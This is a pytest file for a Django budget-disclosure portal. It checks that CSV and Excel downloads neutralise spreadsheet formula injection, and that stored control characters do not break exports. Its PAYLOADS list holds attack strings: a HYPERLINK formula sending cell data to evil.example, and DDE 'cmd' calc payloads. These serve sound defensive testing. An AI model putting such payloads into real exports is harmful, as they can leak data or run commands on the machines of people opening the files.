"""Issue 16 point 2: no download turns what a user typed into a live formula.

Each test enters the payloads the way a user would (an uploaded workbook, the
performance form, a department's name), downloads every CSV and Excel file over HTTP
and reads it back: no formula cell anywhere, the payload kept as a string cell, and in
CSV the payload behind a leading apostrophe. Amounts stay numbers.
"""

import csv
import io
import zipfile
from decimal import Decimal

import pytest
from django.core.management import call_command
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from disclosures.models import ProjectEvaluation, VersionState
from disclosures.selectors import version_latest, version_tables
from portal.accounts.models import Role
from portal.untrusted import csv_value, excel_put, is_formula_like
from tests.disclosures.excel.workbooks import sample_workbook, save
from tests.disclosures.performance.test_views import SEED002_ROWS, _post_data
from tests.factories import SAMPLE_DEPARTMENT, make_department, make_region, make_report, make_user

from ..disclosures.public.conftest import publish

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
# 公开03表 rows 8–11 of the sample: 2080109, 2080150, 2080502, 2080505 (names in column B).
NAME_CELLS = ["B8", "B9", "B10", "B11"]


def assert_no_formula(data, *payloads):
    """Read an .xlsx back: no formula cell; each payload present as a string cell."""
    book = load_workbook(io.BytesIO(data))
    found = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if cell.value in payloads:
                    assert cell.data_type == "s"
                    found.add(cell.value)
    assert found == set(payloads)
    return book


def read_csv(response):
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def assert_csv_neutral(rows, *payloads):
    texts = [value for row in rows for value in row]
    for payload in payloads:
        assert payload not in texts
        assert "'" + payload in texts
    for value in texts:
        assert not (value.startswith(("=", "+", "@", "\t", "\r")) or (value.startswith("-") and not _number(value)))


def _number(text):
    try:
        Decimal(text)
    except ArithmeticError:
        return False
    return True


@pytest.fixture
def hostile(client):
    """A department's report whose 公开03表 names are the payloads, uploaded as a workbook."""
    call_command("load_reference_codes", stdout=io.StringIO())
    region = make_region()
    department = make_department(region, name=SAMPLE_DEPARTMENT)  # the sample workbook's 编制单位
    report, version = make_report(department)
    accountant = make_user(Role.ACCOUNTANT, departments=[department])
    workbook = sample_workbook()
    for coordinate, payload in zip(NAME_CELLS, PAYLOADS, strict=True):
        cell = workbook["公开03表"][coordinate]
        cell.value = payload
        cell.data_type = "s"  # typed as text (as Excel stores '=…), not as a formula
    client.force_login(accountant)
    upload = SimpleUploadedFile("tables.xlsx", save(workbook), content_type=XLSX)
    response = client.post(f"/workspace/reports/{report.pk}/upload/", {"file": upload})
    assert response.status_code == 302, response.content.decode()[:2000]
    names = dict(version_tables(version=version)[3].code_rows)
    assert [names[code] for code in ("2080109", "2080150", "2080502", "2080505")] == PAYLOADS
    return {"region": region, "department": department, "report": report, "version": version, "accountant": accountant}


def test_workspace_workbook_and_template_hold_no_formula(client, hostile):
    report = hostile["report"]
    data = client.get(f"/workspace/reports/{report.pk}/tables.xlsx").content
    book = assert_no_formula(data, *PAYLOADS)
    amounts = [c.value for row in book["公开03表"].iter_rows(min_row=7) for c in row if c.column >= 3 and c.value is not None]
    assert amounts and all(isinstance(v, (int, float)) for v in amounts)  # amounts are still numbers
    next_year, _ = make_report(hostile["department"], year=2025)
    assert_no_formula(client.get(f"/workspace/reports/{next_year.pk}/template.xlsx").content, *PAYLOADS)


def test_review_workbook_template_and_zip_hold_no_formula(client, hostile):
    from disclosures.models import ReportVersion

    ReportVersion.objects.filter(pk=hostile["version"].pk).update(state=VersionState.SUBMITTED)
    client.force_login(make_user(Role.REVIEWER, region=hostile["region"]))
    report = hostile["report"]
    assert_no_formula(client.get(f"/review/reports/{report.pk}/tables.xlsx").content, *PAYLOADS)
    next_year, _ = make_report(hostile["department"], year=2025)
    assert_no_formula(client.get(f"/review/reports/{next_year.pk}/template.xlsx").content, *PAYLOADS)
    response = client.post("/review/dashboard/bulk/", {"year": 2024, "action": "zip", "ids": [hostile["department"].pk]})
    assert response.status_code == 200
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    (name,) = archive.namelist()
    assert_no_formula(archive.read(name), *PAYLOADS)


def test_public_csv_and_workbook_of_a_published_report_are_neutral(client, hostile):
    publish(hostile["version"])
    client.logout()
    code = hostile["department"].code
    rows = read_csv(client.get(f"/reports/{code}/2024/tables/3.csv"))
    assert_csv_neutral(rows, *PAYLOADS)
    assert ["2080109", "'" + PAYLOADS[0], "30.96"] == rows[next(i for i, r in enumerate(rows) if r[0] == "2080109")][:3]
    assert_no_formula(client.get(f"/reports/{code}/2024/tables.xlsx").content, *PAYLOADS)
    assert_no_formula(client.get(f"/reports/{code}/2024/v1/tables.xlsx").content, *PAYLOADS)


def test_export_workbook_command_writes_no_formula(hostile, tmp_path):
    out = tmp_path / "out.xlsx"
    call_command("export_workbook", department=hostile["department"].code, year=2024, out=str(out), stdout=io.StringIO())
    assert_no_formula(out.read_bytes(), *PAYLOADS)
    call_command("export_workbook", department=hostile["department"].code, year=2024, out=str(out), unit="元", stdout=io.StringIO())
    assert_no_formula(out.read_bytes(), *PAYLOADS)


def test_a_department_name_is_neutral_in_compare_csv_xlsx_and_the_dashboard(client):
    region = make_region()
    hostile = make_department(region, name=PAYLOADS[0])
    others = [make_department(region, name=name) for name in PAYLOADS[1:]]
    for department in [hostile, *others]:
        make_report(department, state=VersionState.PUBLISHED)
    rows = read_csv(client.get(f"/compare/regions/{region.code}/2024/compare.csv"))
    assert_csv_neutral(rows, *PAYLOADS)
    assert rows[1][2:] and _number(rows[1][2])  # amounts are plain numbers
    response = client.get(f"/compare/regions/{region.code}/2024/compare.xlsx")
    book = assert_no_formula(response.content, *PAYLOADS)
    assert isinstance(book.active.cell(row=3, column=3).value, (int, float))
    client.force_login(make_user(Role.REVIEWER, region=region))
    response = client.get("/review/dashboard.xlsx", {"year": 2024})
    assert response.status_code == 200
    assert_no_formula(response.content, *PAYLOADS)


def test_a_negative_amount_stays_a_number_in_csv_and_excel():
    assert csv_value(Decimal("-12.50")) == Decimal("-12.50")
    assert csv_value("-12.50") == "-12.50" and csv_value("-1,234.00") == "-1,234.00"
    assert csv_value("-2+3") == "'-2+3" and csv_value("\t=1") == "'\t=1"
    assert not is_formula_like("-0.01") and is_formula_like("@A1")
    from openpyxl import Workbook

    sheet = Workbook().active
    assert excel_put(sheet["A1"], Decimal("-5.00")).data_type == "n"
    assert excel_put(sheet["A2"], "=1+1").data_type == "s"


def test_performance_evaluation_export_holds_no_formula(client):
    region = make_region()
    department = make_department(region)
    report, version = make_report(department)
    client.force_login(make_user(Role.ACCOUNTANT, departments=[department]))
    rows = [(*SEED002_ROWS[0][:2], PAYLOADS[2], *SEED002_ROWS[0][3:])] + SEED002_ROWS[1:]
    data = _post_data(rows, project_name=PAYLOADS[0], goals=PAYLOADS[1], achieved=PAYLOADS[3])
    response = client.post(reverse("workspace:performance_new", args=[report.pk]), data)
    assert response.status_code == 302
    assert ProjectEvaluation.objects.get(version=version).project_name == PAYLOADS[0]
    response = client.get(reverse("workspace:performance_workbook", args=[report.pk]))
    assert response.status_code == 200
    assert_no_formula(response.content, *PAYLOADS)


def test_a_stored_control_character_cannot_break_a_download(client):
    """Defence in depth: a value stored before the text policy still downloads (no 500)."""
    from disclosures.models import CodeRow

    region = make_region()
    department = make_department(region, name="行政\x1b[0m单位")
    report, version = make_report(department, state=VersionState.PUBLISHED)
    CodeRow.objects.filter(version=version, table=3).update(name="行政运行\x01\x0b\x1b[0m\u202e")
    client.force_login(make_user(Role.REVIEWER, region=region))
    for url in (
        f"/reports/{department.code}/2024/tables.xlsx",
        f"/reports/{department.code}/2024/tables/3.csv",
        f"/compare/regions/{region.code}/2024/compare.xlsx",
        f"/compare/regions/{region.code}/2024/compare.csv",
        f"/review/reports/{report.pk}/tables.xlsx",
        "/review/dashboard.xlsx?year=2024",
    ):
        response = client.get(url)
        assert response.status_code == 200, url
        if url.endswith(".csv"):
            texts = [value for row in read_csv(response) for value in row]
        else:
            book = load_workbook(io.BytesIO(response.content))
            texts = [c for s in book.worksheets for r in s.iter_rows(values_only=True) for c in r if isinstance(c, str)]
        assert any("行政运行" in t or "行政" in t for t in texts), url
        assert not any(c in t for t in texts for c in "\x01\x0b\x1b\u202e"), url
    assert version_latest(report=report).pk == version.pk
